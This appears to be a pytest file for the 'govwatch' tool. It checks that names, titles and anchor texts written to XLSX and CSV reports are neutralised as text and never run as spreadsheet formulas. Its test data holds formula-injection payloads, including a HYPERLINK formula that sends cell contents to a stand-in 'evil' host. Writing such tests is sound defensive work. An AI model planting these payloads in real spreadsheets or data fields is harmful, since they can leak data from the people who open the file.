"""No text govwatch writes to a spreadsheet can run as a formula (govwatch.core.cells): the XLSX of
bulletins and scorecards, and the CSV of the listing commands, with claimant names and crawled
titles, details and anchor texts that start like formulas."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from support.cli import run, written
from support.world import JTJ, SITES, Finding, World

from govwatch.core.cells import neutralise
from govwatch.core.config import Site
from govwatch.core.vocabulary import Severity
from govwatch.crawler import store
from govwatch.output import render
from govwatch.reports import xlsx
from govwatch.reports.tables import Section, columns

# One text per dangerous start named by OWASP; written out here rather than taken from the
# module under test, so that shortening its list fails these tests.
PAYLOADS = ('=HYPERLINK("http://evil/"&A1,"点此查看")', "+1+1", "-2+3", "@SUM(A1)", "\t=1",
            "\r=1")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
# A unit whose name (from the sites file) starts like a formula too: it heads scorecard rows.
EVIL_SITE = Site("xy-evil", "@网站", "http://evil.example/", "-某某单位")


@pytest.fixture
def db_path(tmp_path: Path) -> str:
    """A database whose every kind of untrusted text starts like a formula.

    One veto per payload (so the scorecard lists it too), with that payload as its title and
    detail; one column per payload named by its anchor text. Bulletin 1 publishes the
    findings and each issue is claimed through the CLI by a payload, so the bulletin of
    10-14 carries the claimant names.
    """
    path = tmp_path / "govwatch.db"
    world = World(path, (*SITES, EVIL_SITE))
    findings = [
        Finding("xy-jtj" if i % 2 else "xy-evil", "column.stale_veto", f"{JTJ}c{i}/", payload,
                Severity.VETO, 0, evidence=payload)
        for i, payload in enumerate(PAYLOADS)
    ]
    scan_id = world.scan("2026-09-28", findings)
    store.write_rows(world.db, "column_pages", [
        {"scan_id": scan_id, "site_id": "xy-jtj", "column_url": f"{JTJ}c{i}/",
         "page_url": f"{JTJ}c{i}/", "page_no": 1, "name": payload, "name_source": "anchor",
         "class": "dynamic", "kind": "list", "item_count": 0}
        for i, payload in enumerate(PAYLOADS)
    ])
    store.finalize_scan(world.db, scan_id)  # again, now that the columns are there
    assert run("track", "--db", str(path))[0] == 0
    assert run("bulletin", "--db", str(path), "--date", "2026-09-30", "--out",
               str(tmp_path), "--format", "json")[0] == 0
    for issue, payload in enumerate(PAYLOADS, start=1):
        code, _, err = run("claim", str(issue), "--db", str(path), f"--by={payload}")
        assert code == 0, err
    return str(path)


def workbook_cells(path: Path) -> list:
    """Every cell of every sheet of the workbook at *path*."""
    book = load_workbook(path)
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def assert_inert_and_kept(texts: list[str]) -> None:
    """No text starts like a formula, and each payload is there whole behind its quote."""
    assert [t for t in texts if t.startswith(DANGEROUS)] == []
    for payload in PAYLOADS:
        assert "'" + payload in texts, payload


def test_neutralise_quotes_each_formula_start() -> None:
    for payload in PAYLOADS:
        assert neutralise(payload) == "'" + payload


def test_neutralise_leaves_numbers_and_safe_text_alone() -> None:
    for value in (-2, -2.5, 0, 3, None, True, "", "咸阳市交通运输局", "http://a.example/-1",
                  "a=b", "'=already text", "2026-10-14"):
        assert neutralise(value) == value, value
        assert type(neutralise(value)) is type(value)


@pytest.mark.parametrize("report", ["bulletin", "scorecard"])
def test_report_workbooks_hold_text_never_formulas(db_path: str, tmp_path: Path,
                                                   report: str) -> None:
    out = tmp_path / "xlsx"
    code, stdout, err = run(report, "--db", db_path, "--date", "2026-10-14", "--out", str(out),
                            "--files", "xlsx", "--format", "json")
    assert code == 0, err
    cells = workbook_cells(written(stdout)[0])
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert_inert_and_kept([c.value for c in cells if isinstance(c.value, str)])
    numbers = [c for c in cells if isinstance(c.value, int | float)]
    assert numbers and all(c.data_type == "n" for c in numbers)  # numbers stay numbers
    assert {"'-某某单位", "'@网站"} <= {c.value for c in cells}  # names from the sites file


def test_workbook_text_is_typed_text_even_without_its_quote(tmp_path: Path,
                                                             monkeypatch) -> None:
    # The second lock on its own: were the quote ever missing, openpyxl must still write
    # a text cell, not the formula it makes of any str starting with "=".
    monkeypatch.setattr(xlsx, "neutralise_row", list)
    section = Section("rows", "问题", columns(("title", "问题", 20)))
    path = xlsx.write_workbook(tmp_path / "bare.xlsx", [section],
                               {"rows": [{"title": PAYLOADS[0]}]})
    (cell,) = [c for c in workbook_cells(path) if c.row == 2]
    assert (cell.value, cell.data_type) == (PAYLOADS[0], "s")


def test_a_crawled_control_character_does_not_stop_the_workbook(tmp_path: Path) -> None:
    # XLSX forbids most control characters; a page title carrying one must not cost the
    # bulletin its spreadsheet.
    section = Section("rows", "问题", columns(("title", "问题", 20)))
    path = xlsx.write_workbook(tmp_path / "ctl.xlsx", [section],
                               {"rows": [{"title": "通知\x0b公告\x1f"}]})
    (cell,) = [c for c in workbook_cells(path) if c.row == 2]
    assert cell.value == "通知公告"


@pytest.mark.parametrize("command", ["issues", "findings", "columns"])
def test_csv_output_holds_no_formula(db_path: str, command: str) -> None:
    code, out, err = run(command, "--db", db_path, "--format", "csv")
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    assert len(rows) == len(PAYLOADS) + 1
    fields = [field for row in rows for field in row]
    assert_inert_and_kept(fields)
    if command == "issues":
        by = rows[0].index("claimed_by")
        assert sorted(row[0] for row in rows[1:]) == [
            str(n) for n in range(1, len(PAYLOADS) + 1)]  # ids are numbers, not quoted
        # the tracker keeps a name without its surrounding blanks (a tab, a CR)
        assert sorted(row[by] for row in rows[1:]) == sorted("'" + p.strip() for p in PAYLOADS)


def test_a_carriage_return_inside_a_csv_field_cannot_start_a_row() -> None:
    # Excel ends a row at a bare \r outside quotes: unquoted, "=1+1" would open the next row.
    out = render([{"id": 7, "title": "标题\r=1+1"}], "csv")
    assert out == 'id,title\n7,"标题\r=1+1"'
